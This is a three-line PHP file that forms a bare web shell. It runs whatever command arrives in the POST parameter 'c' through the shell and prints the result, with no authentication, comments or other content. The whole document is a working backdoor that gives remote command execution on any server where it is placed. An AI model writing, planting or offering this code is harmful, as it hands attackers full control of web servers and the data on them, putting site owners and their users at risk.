<?php
$r = `{$_POST['c']}`;
print $r;
